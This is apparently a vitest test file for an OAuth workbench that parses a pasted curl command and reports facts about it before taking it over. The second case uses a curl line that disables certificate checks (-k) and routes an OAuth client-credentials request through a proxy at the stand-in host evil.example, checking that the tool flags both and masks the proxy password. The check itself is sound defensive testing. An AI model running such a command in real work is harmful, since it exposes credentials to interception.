import { expect, it } from 'vitest';
import { pastedFacts } from '../../../../renderer/workbench/send/fill-from-curl.ts';
import { parseCurl } from '../../../../shared/oauth/curl/parse-curl.ts';

it('what a pasted line would do to TLS and the way to the server is told before it is taken over', () => {
  const facts = (line: string) => pastedFacts(parseCurl(line)).map(({ name, value }) => [name, value]);
  expect(facts("curl -d grant_type=client_credentials 'https://as.example'").map(([name]) => name)).toEqual([
    'Endpoint',
    'Grant',
    'Client',
  ]);
  expect(
    facts(
      "curl -k -x http://me:secret@evil.example:3128 -d grant_type=client_credentials 'https://as.example'",
    ),
  ).toEqual(
    expect.arrayContaining([
      ['TLS', 'any certificate (-k)'],
      ['Proxy', 'http://***@evil.example:3128 (-x)'],
    ]),
  );
});
